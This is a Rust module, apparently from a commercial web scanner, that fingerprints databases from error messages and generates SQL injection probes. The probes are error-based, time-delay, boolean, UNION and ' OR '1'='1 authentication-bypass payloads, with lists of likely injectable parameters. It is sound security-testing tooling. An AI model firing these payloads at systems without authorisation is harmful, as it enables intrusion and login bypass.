// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Bountyy Oy - SQL Injection Payload Library
 * Error pattern catalog, DBMS fingerprinting and context-aware payload
 * selection
 *
 * @copyright 2026 Bountyy Oy
 * @license Proprietary
 */

use once_cell::sync::Lazy;
use rand::Rng;
use regex::RegexBuilder;

/// Upper bound on error-based payloads per parameter
const MAX_ERROR_PAYLOADS: usize = 30;

/// DBMS error-message patterns, grouped by family. The catalog is matched
/// case-insensitively against response bodies.
const ERROR_PATTERN_SOURCES: &[(&str, DbmsFamily)] = &[
    // MySQL / MariaDB
    (r"sql syntax.*?mysql", DbmsFamily::MySql),
    (r"warning.*?\Wmysqli?_", DbmsFamily::MySql),
    (r"mysql.*?error", DbmsFamily::MySql),
    (r"MySQLSyntaxErrorException", DbmsFamily::MySql),
    (r"valid MySQL result", DbmsFamily::MySql),
    (
        r"check the manual that (corresponds to|fits) your (MySQL|MariaDB) server version",
        DbmsFamily::MySql,
    ),
    (r"Unknown column '[^ ]+' in 'field list'", DbmsFamily::MySql),
    (r"MySqlClient\.", DbmsFamily::MySql),
    (r"com\.mysql\.jdbc", DbmsFamily::MySql),
    (r"Pdo[./_\\]Mysql", DbmsFamily::MySql),
    (r"you have an error in your sql syntax", DbmsFamily::MySql),
    (
        r"SQLSTATE\[\d+\]: Syntax error or access violation",
        DbmsFamily::MySql,
    ),
    // PostgreSQL
    (r"PostgreSQL.*?ERROR", DbmsFamily::Postgres),
    (r"warning.*?\Wpg_", DbmsFamily::Postgres),
    (r"valid PostgreSQL result", DbmsFamily::Postgres),
    (r"Npgsql\.", DbmsFamily::Postgres),
    (r"PG::SyntaxError:", DbmsFamily::Postgres),
    (r"org\.postgresql\.util\.PSQLException", DbmsFamily::Postgres),
    (r"ERROR:\s+syntax error at or near", DbmsFamily::Postgres),
    (r"ERROR: parser: parse error at or near", DbmsFamily::Postgres),
    (r"unterminated quoted string at or near", DbmsFamily::Postgres),
    (
        r"invalid input syntax for (?:type|integer)",
        DbmsFamily::Postgres,
    ),
    (r#"relation "[^"]*" does not exist"#, DbmsFamily::Postgres),
    (r"Pdo[./_\\]Pgsql", DbmsFamily::Postgres),
    // Microsoft SQL Server / Access
    (r"Driver.*? SQL[\-\_\ ]*Server", DbmsFamily::Mssql),
    (r"OLE DB.*? SQL Server", DbmsFamily::Mssql),
    (r"\bSQL Server[^<\x22]+Driver", DbmsFamily::Mssql),
    (r"warning.*?\W(mssql|sqlsrv)_", DbmsFamily::Mssql),
    (
        r"System\.Data\.SqlClient\.SqlException",
        DbmsFamily::Mssql,
    ),
    (r"\[SQL Server\]", DbmsFamily::Mssql),
    (r"ODBC SQL Server Driver", DbmsFamily::Mssql),
    (r"ODBC Driver \d+ for SQL Server", DbmsFamily::Mssql),
    (r"SQLServer JDBC Driver", DbmsFamily::Mssql),
    (
        r"Unclosed quotation mark (after|before) the character string",
        DbmsFamily::Mssql,
    ),
    (r"Incorrect syntax near", DbmsFamily::Mssql),
    (
        r"Procedure or function .+ expects parameter",
        DbmsFamily::Mssql,
    ),
    (r"com\.microsoft\.sqlserver\.jdbc", DbmsFamily::Mssql),
    (r"Microsoft Access (\d+ )?Driver", DbmsFamily::Mssql),
    (r"JET Database Engine", DbmsFamily::Mssql),
    (r"Access Database Engine", DbmsFamily::Mssql),
    (
        r"Syntax error \(missing operator\) in query expression",
        DbmsFamily::Mssql,
    ),
    // Oracle
    (r"\bORA-\d{5}", DbmsFamily::Oracle),
    (r"Oracle error", DbmsFamily::Oracle),
    (r"Oracle.*?Driver", DbmsFamily::Oracle),
    (r"warning.*?\W(oci|ora)_", DbmsFamily::Oracle),
    (
        r"quoted string not properly terminated",
        DbmsFamily::Oracle,
    ),
    (r"SQL command not properly ended", DbmsFamily::Oracle),
    (r"PLS-\d{4}", DbmsFamily::Oracle),
    (r"oracle\.jdbc", DbmsFamily::Oracle),
    // SQLite
    (r"SQLite/JDBCDriver", DbmsFamily::Sqlite),
    (r"SQLite\.Exception", DbmsFamily::Sqlite),
    (
        r"(Microsoft|System)\.Data\.SQLite\.SQLiteException",
        DbmsFamily::Sqlite,
    ),
    (r"warning.*?\W(sqlite_|SQLite3::)", DbmsFamily::Sqlite),
    (r"\[SQLITE_ERROR\]", DbmsFamily::Sqlite),
    (r"SQLite error \d+:", DbmsFamily::Sqlite),
    (r"sqlite3\.OperationalError:", DbmsFamily::Sqlite),
    (r#"near "[^"]*": syntax error"#, DbmsFamily::Sqlite),
    (r"unable to open database file", DbmsFamily::Sqlite),
    // IBM DB2
    (r"CLI Driver.*?DB2", DbmsFamily::Generic),
    (r"DB2 SQL error", DbmsFamily::Generic),
    (r"\bdb2_\w+\(", DbmsFamily::Generic),
    (r"SQLCODE[=:\d, -]+SQLSTATE", DbmsFamily::Generic),
    (r"com\.ibm\.db2\.jcc", DbmsFamily::Generic),
    // Sybase
    (r"warning.*?\Wsybase_", DbmsFamily::Generic),
    (r"Sybase message", DbmsFamily::Generic),
    (r"SybSQLException", DbmsFamily::Generic),
    (r"Sybase\.Data\.AseClient", DbmsFamily::Generic),
    // Ingres / Informix / Firebird
    (r"warning.*?\Wingres_", DbmsFamily::Generic),
    (r"Ingres SQLSTATE", DbmsFamily::Generic),
    (r"Exception.*?Informix", DbmsFamily::Generic),
    (r"com\.informix\.jdbc", DbmsFamily::Generic),
    (r"Dynamic SQL Error", DbmsFamily::Generic),
    (r"warning.*?\Wibase_", DbmsFamily::Generic),
    // ORM / JDBC layers
    (r"org\.hibernate\.QueryException", DbmsFamily::Generic),
    (r"java\.sql\.SQLSyntaxErrorException", DbmsFamily::Generic),
    (r"java\.sql\.SQLException", DbmsFamily::Generic),
    (
        r"StatementCallback; bad SQL grammar",
        DbmsFamily::Generic,
    ),
    // Generic
    (r"SQLSTATE[\[=]", DbmsFamily::Generic),
    (r"sqlexception", DbmsFamily::Generic),
    (r"syntax error.*?sql", DbmsFamily::Generic),
    (r"sql syntax.*?error", DbmsFamily::Generic),
    (r"unexpected end of SQL command", DbmsFamily::Generic),
    (r"Unable to execute query", DbmsFamily::Generic),
    (r"Subquery returns more than 1 row", DbmsFamily::Generic),
    (r"Division by zero in query expression", DbmsFamily::Generic),
    (r"Table '[^']+' doesn't exist", DbmsFamily::Generic),
    (r"no such column", DbmsFamily::Generic),
    (r"DBD::mysql::st execute failed:", DbmsFamily::Generic),
];

/// Compiled error-pattern catalog, built once per process
pub static SQL_ERROR_PATTERNS: Lazy<Vec<(regex::Regex, DbmsFamily)>> = Lazy::new(|| {
    ERROR_PATTERN_SOURCES
        .iter()
        .map(|(source, family)| {
            let re = RegexBuilder::new(source)
                .case_insensitive(true)
                .build()
                .unwrap_or_else(|e| panic!("bad error pattern {:?}: {}", source, e));
            (re, *family)
        })
        .collect()
});

/// Parameter names that are frequently injectable in real applications
pub const LIKELY_PARAMS: &[&str] = &[
    "id", "user_id", "item_id", "product_id", "post_id", "article_id", "page_id", "news_id",
    "category_id", "cat_id", "record_id", "profile_id", "thread_id", "topic_id", "group_id",
    "event_id", "message_id", "order_id", "uid", "pid", "tid", "gid", "sid", "cid", "num",
    "query", "search", "q", "s", "term", "keyword", "filter", "sort", "order", "dir", "cat",
    "category", "user", "username", "email", "name", "login", "account", "page", "type", "ref",
];

/// Search/filter parameter names (high priority tier)
pub const SEARCH_PARAMS: &[&str] = &[
    "search", "query", "q", "filter", "keyword", "find", "lookup", "term", "terms", "key",
    "where", "criteria", "condition", "searchterm", "search_query", "pattern", "contains",
    "name", "title",
];

/// Authentication-style parameter names (high priority tier)
pub const AUTH_PARAMS: &[&str] = &[
    "username", "user", "email", "login", "account", "pass", "pin", "auth", "memberid",
    "customer", "member", "admin",
];

/// High-risk id-style parameter names expected to carry numeric values
pub const ID_PARAMS: &[&str] = &[
    "id", "user_id", "item_id", "product_id", "post_id", "article_id", "page_id", "news_id",
    "category_id", "cat_id", "action_id", "section_id", "module_id", "record_id", "profile_id",
    "file_id", "ticket_id", "message_id", "thread_id", "topic_id", "group_id", "event_id",
    "uid", "pid", "tid", "gid", "sid", "lid", "cid", "type",
];

/// Endpoints worth synthesizing when discovery returns almost nothing
pub const COMMON_ENDPOINTS: &[&str] = &[
    "/search", "/products", "/product", "/users", "/items", "/item", "/category", "/view",
    "/profile", "/account", "/article", "/news", "/blog", "/post", "/details", "/listproducts",
];

/// Parameter names synthesized against bare endpoints
pub const COMMON_PARAM_GUESSES: &[&str] =
    &["id", "search", "query", "item", "page", "user", "cat", "product"];

/// Security-token parameter names that must never be tampered with
pub const SKIP_PARAMS: &[&str] = &["csrf", "nonce", "token", "captcha"];

/// Phrases that mark SQL-educational content; matches appearing alongside
/// these in both baseline and probe responses are reflection noise
pub static SQL_TUTORIAL_PATTERNS: Lazy<Vec<regex::Regex>> = Lazy::new(|| {
    [
        r"SQL\s+tutorial",
        r"learn\s+SQL",
        r"SQL\s+basics",
        r"SQL\s+examples?",
        r"SQL\s+course",
        r"SQL\s+training",
        r"SQL\s+documentation",
        r"about\s+SQL",
        r"SQL\s+language",
    ]
    .iter()
    .map(|source| {
        RegexBuilder::new(source)
            .case_insensitive(true)
            .build()
            .expect("static tutorial pattern")
    })
    .collect()
});

/// Database family inferred from error text or URL hints
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum DbmsFamily {
    MySql,
    Postgres,
    Mssql,
    Oracle,
    Sqlite,
    Generic,
}

impl DbmsFamily {
    pub fn name(&self) -> &'static str {
        match self {
            DbmsFamily::MySql => "MySQL",
            DbmsFamily::Postgres => "PostgreSQL",
            DbmsFamily::Mssql => "Microsoft SQL Server",
            DbmsFamily::Oracle => "Oracle",
            DbmsFamily::Sqlite => "SQLite",
            DbmsFamily::Generic => "SQL database",
        }
    }

    /// Identify the family from error text; specific families win over the
    /// generic bucket regardless of catalog order.
    pub fn from_error_text(text: &str) -> Option<DbmsFamily> {
        let mut generic_hit = false;
        for (pattern, family) in SQL_ERROR_PATTERNS.iter() {
            if pattern.is_match(text) {
                if *family == DbmsFamily::Generic {
                    generic_hit = true;
                } else {
                    return Some(*family);
                }
            }
        }
        if generic_hit {
            Some(DbmsFamily::Generic)
        } else {
            None
        }
    }

    /// Guess the family from URL extension/path conventions
    pub fn from_url_hint(url: &str) -> Option<DbmsFamily> {
        let lower = url.to_lowercase();
        if lower.contains(".php") || lower.contains("mysql") {
            Some(DbmsFamily::MySql)
        } else if lower.contains(".asp") || lower.contains("mssql") {
            Some(DbmsFamily::Mssql)
        } else if lower.contains(".jsp") || lower.contains(".do") || lower.contains("oracle") {
            Some(DbmsFamily::Oracle)
        } else if lower.contains("/api") || lower.contains("/data") || lower.contains("pgsql") {
            Some(DbmsFamily::Postgres)
        } else {
            None
        }
    }

    /// Delay payloads for time-blind probing, `delay` seconds each
    pub fn delay_payloads(&self, value: &str, delay: u32) -> Vec<String> {
        match self {
            DbmsFamily::MySql => vec![
                format!("{value}' AND SLEEP({delay}) -- "),
                format!("{value}\" AND SLEEP({delay}) -- "),
                format!("{value}') AND SLEEP({delay}) -- "),
                format!("{value} AND SLEEP({delay}) -- "),
            ],
            DbmsFamily::Postgres => vec![
                format!("{value}' AND (SELECT pg_sleep({delay})) IS NOT NULL -- "),
                format!("{value}\" AND (SELECT pg_sleep({delay})) IS NOT NULL -- "),
                format!("{value}') AND (SELECT pg_sleep({delay})) IS NOT NULL -- "),
                format!("{value} AND (SELECT pg_sleep({delay})) IS NOT NULL -- "),
            ],
            DbmsFamily::Mssql => vec![
                format!("{value}' WAITFOR DELAY '0:0:{delay}' -- "),
                format!("{value}\" WAITFOR DELAY '0:0:{delay}' -- "),
                format!("{value}'; WAITFOR DELAY '0:0:{delay}' -- "),
                format!("{value} WAITFOR DELAY '0:0:{delay}' -- "),
            ],
            DbmsFamily::Oracle => vec![
                format!("{value}' AND DBMS_PIPE.RECEIVE_MESSAGE('XYZ',{delay}) IS NOT NULL -- "),
                format!("{value}\" AND DBMS_PIPE.RECEIVE_MESSAGE('XYZ',{delay}) IS NOT NULL -- "),
                format!("{value}') AND DBMS_PIPE.RECEIVE_MESSAGE('XYZ',{delay}) IS NOT NULL -- "),
            ],
            DbmsFamily::Sqlite => vec![
                format!("{value}' AND RANDOMBLOB(100000000) -- "),
                format!("{value}\" AND RANDOMBLOB(100000000) -- "),
            ],
            DbmsFamily::Generic => vec![
                format!("{value}' AND SLEEP({delay}) -- "),
                format!("{value}' AND (SELECT pg_sleep({delay})) IS NOT NULL -- "),
                format!("{value}' WAITFOR DELAY '0:0:{delay}' -- "),
                format!(
                    "{value}' AND (SELECT COUNT(*) FROM generate_series(1,10000000)) > 0 -- "
                ),
            ],
        }
    }
}

/// A TRUE/FALSE payload pair for boolean-blind probing
#[derive(Debug, Clone)]
pub struct BooleanPair {
    pub true_payload: String,
    pub false_payload: String,
    pub description: &'static str,
}

/// Chooses bounded, context-aware payload subsets for a parameter
pub struct PayloadSelector;

impl PayloadSelector {
    /// Error-based payloads: syntax breakers around the original value,
    /// family-specific error provokers from URL hints, and parameter-kind
    /// specials. Deduplicated and capped.
    pub fn error_payloads(url: &str, name: &str, value: &str) -> Vec<String> {
        let mut payloads: Vec<String> = Vec::new();

        // Bare syntax breakers: the cheapest, most reliable error triggers
        payloads.extend(
            ["'", "\"", "\\", "'--", "';", "\";"]
                .iter()
                .map(|s| s.to_string()),
        );

        // Breakers appended to the original value keep numeric contexts intact
        for suffix in ["'", "\"", "')", "\")", "'))", "';"] {
            payloads.push(format!("{value}{suffix}"));
        }

        let name_lower = name.to_lowercase();
        let is_id = ID_PARAMS.iter().any(|p| name_lower.contains(p));
        let is_search = SEARCH_PARAMS.iter().any(|p| name_lower.contains(p));
        let is_user = AUTH_PARAMS.iter().any(|p| name_lower.contains(p));
        let is_numeric = !value.is_empty() && value.chars().all(|c| c.is_ascii_digit());

        match DbmsFamily::from_url_hint(url) {
            Some(DbmsFamily::MySql) | None => {
                payloads.push(format!(
                    "{value}' AND extractvalue(1, concat(0x7e, (SELECT @@version))) AND '1'='1"
                ));
                payloads.push(format!(
                    "{value}' AND updatexml(1, concat(0x7e, (SELECT @@version)), 1) AND '1'='1"
                ));
            }
            Some(DbmsFamily::Mssql) => {
                payloads.push(format!(
                    "{value}' AND 1=CONVERT(int,(SELECT @@version)) AND '1'='1"
                ));
                payloads.push(format!("{value}' AND 1=db_name()--"));
            }
            Some(DbmsFamily::Postgres) => {
                payloads.push(format!(
                    "{value}' AND 1=cast(version() as int) AND '1'='1"
                ));
                payloads.push(format!(
                    "{value}' AND 1=cast(current_database() as int) AND '1'='1"
                ));
            }
            Some(DbmsFamily::Oracle) => {
                payloads.push(format!(
                    "{value}' AND 1=CTXSYS.DRITHSX.SN(1,1) AND '1'='1"
                ));
            }
            Some(_) => {}
        }

        if is_id && is_numeric {
            payloads.push(format!("{value} AND 1=0 UNION ALL SELECT 1,2,3--"));
            payloads.push(format!("{value} AND 1=0 UNION ALL SELECT null,null,null--"));
            payloads.push(format!("{value}+1"));
            payloads.push("1 OR 1=1".to_string());
        }
        if is_search {
            payloads.push(format!("{value}%' AND 1=0 UNION ALL SELECT 1,2,3--"));
            payloads.push(format!("{value}' UNION SELECT 1,2,3--"));
        }
        if is_user {
            payloads.push(format!("{value}' OR '1'='1"));
            payloads.push(format!("{value}' OR 'x'='x"));
            payloads.push(format!("{value}' /**/OR/**/1=1--"));
        }

        // UNION probes that provoke column-count errors
        for cols in ["1", "1,2", "1,2,3"] {
            payloads.push(format!("{value}' UNION ALL SELECT {cols}--"));
        }

        // Dedup preserving order, then prefer UNION probes for numeric ids
        let mut seen = std::collections::HashSet::new();
        let mut unique: Vec<String> = payloads
            .into_iter()
            .filter(|p| seen.insert(p.clone()))
            .collect();

        if is_id && is_numeric {
            unique.sort_by_key(|p| if p.contains(value) && p.contains("UNION") { 0 } else { 1 });
        }

        unique.truncate(MAX_ERROR_PAYLOADS);
        unique
    }

    /// Boolean TRUE/FALSE pairs over quote styles and parenthesis styles,
    /// with randomized numeric literals in the conditions.
    pub fn boolean_pairs(value: &str) -> Vec<BooleanPair> {
        let mut rng = rand::rng();
        let mut pairs = Vec::new();

        for use_parens in [false, true] {
            for quote in ["", "'", "\""] {
                let a: u32 = rng.random_range(10..99);
                let b: u32 = a + rng.random_range(1..99);
                let pad: u32 = rng.random_range(10..99);

                let (true_payload, false_payload) = if use_parens {
                    (
                        format!(
                            "{value}{quote}) AND {a}={a} AND ({quote}{pad}{quote}={quote}{pad}"
                        ),
                        format!(
                            "{value}{quote}) AND {a}={b} AND ({quote}{pad}{quote}={quote}{pad}"
                        ),
                    )
                } else {
                    (
                        format!("{value}{quote} AND {a}={a} AND {quote}{pad}{quote}={quote}{pad}"),
                        format!("{value}{quote} AND {a}={b} AND {quote}{pad}{quote}={quote}{pad}"),
                    )
                };

                pairs.push(BooleanPair {
                    true_payload,
                    false_payload,
                    description: if use_parens {
                        "parenthesized conditional"
                    } else {
                        "inline conditional"
                    },
                });
            }
        }

        pairs
    }

    /// UNION probes for one column count: an all-marker payload and a
    /// NULL-padded variant placing the marker at `marker_position`
    /// (bypasses column type mismatches).
    pub fn union_payloads(marker: &str, columns: usize, marker_position: usize) -> (String, String) {
        let all_markers = (0..columns)
            .map(|i| format!("'{}{}'", marker, i + 1))
            .collect::<Vec<_>>()
            .join(",");

        let null_padded = (0..columns)
            .map(|i| {
                if i == marker_position {
                    format!("'{}'", marker)
                } else {
                    "NULL".to_string()
                }
            })
            .collect::<Vec<_>>()
            .join(",");

        (
            format!("' UNION SELECT {} --", all_markers),
            format!("' UNION SELECT {} --", null_padded),
        )
    }

    /// Fresh randomized marker for UNION probing
    pub fn union_marker() -> String {
        let mut rng = rand::rng();
        format!("SQLi{}M", rng.random_range(1000..9999))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn error_catalog_compiles() {
        assert!(SQL_ERROR_PATTERNS.len() > 60);
    }

    #[test]
    fn oracle_error_is_identified() {
        let text = "ORA-00933: SQL command not properly ended";
        assert_eq!(DbmsFamily::from_error_text(text), Some(DbmsFamily::Oracle));
    }

    #[test]
    fn mysql_error_is_identified() {
        let text = "You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version";
        assert_eq!(DbmsFamily::from_error_text(text), Some(DbmsFamily::MySql));
    }

    #[test]
    fn specific_family_wins_over_generic() {
        // Contains both a generic marker (SQLSTATE) and a PostgreSQL one
        let text = "SQLSTATE[42601] PG::SyntaxError: ERROR:  syntax error at or near";
        assert_eq!(
            DbmsFamily::from_error_text(text),
            Some(DbmsFamily::Postgres)
        );
    }

    #[test]
    fn clean_text_yields_no_family() {
        assert_eq!(
            DbmsFamily::from_error_text("Welcome to our product catalog"),
            None
        );
    }

    #[test]
    fn url_hints_map_to_families() {
        assert_eq!(
            DbmsFamily::from_url_hint("http://x/item.php?id=1"),
            Some(DbmsFamily::MySql)
        );
        assert_eq!(
            DbmsFamily::from_url_hint("http://x/page.aspx?id=1"),
            Some(DbmsFamily::Mssql)
        );
        assert_eq!(
            DbmsFamily::from_url_hint("http://x/view.jsp?id=1"),
            Some(DbmsFamily::Oracle)
        );
        assert_eq!(DbmsFamily::from_url_hint("http://x/plain"), None);
    }

    #[test]
    fn error_payloads_are_bounded_and_unique() {
        let payloads = PayloadSelector::error_payloads("http://x/item.php?id=5", "id", "5");
        assert!(!payloads.is_empty());
        assert!(payloads.len() <= 30);

        let unique: std::collections::HashSet<_> = payloads.iter().collect();
        assert_eq!(unique.len(), payloads.len());
    }

    #[test]
    fn numeric_id_parameters_get_union_probes_first(){
        let payloads = PayloadSelector::error_payloads("http://x/item.php?id=5", "id", "5");
        assert!(payloads[0].contains("UNION"));
        assert!(payloads[0].contains('5'));
    }

    #[test]
    fn boolean_pairs_cover_quote_and_paren_styles() {
        let pairs = PayloadSelector::boolean_pairs("1");
        assert_eq!(pairs.len(), 6);
        assert!(pairs.iter().any(|p| p.true_payload.contains('\'')));
        assert!(pairs.iter().any(|p| p.true_payload.contains(") AND")));
        assert!(pairs.iter().any(|p| !p.true_payload.contains('\'')
            && !p.true_payload.contains('"')));

        for pair in &pairs {
            assert_ne!(pair.true_payload, pair.false_payload);
        }
    }

    #[test]
    fn union_payloads_embed_marker_and_nulls() {
        let (all, padded) = PayloadSelector::union_payloads("SQLi1337M", 3, 1);
        assert!(all.contains("SQLi1337M1"));
        assert!(all.contains("SQLi1337M3"));
        assert!(padded.contains("NULL,'SQLi1337M',NULL"));
    }

    #[test]
    fn delay_payloads_follow_family() {
        let mysql = DbmsFamily::MySql.delay_payloads("1", 4);
        assert!(mysql.iter().all(|p| p.contains("SLEEP(4)")));

        let mssql = DbmsFamily::Mssql.delay_payloads("1", 4);
        assert!(mssql.iter().all(|p| p.contains("WAITFOR DELAY")));

        let generic = DbmsFamily::Generic.delay_payloads("1", 3);
        assert!(generic.len() >= 3);
    }
}
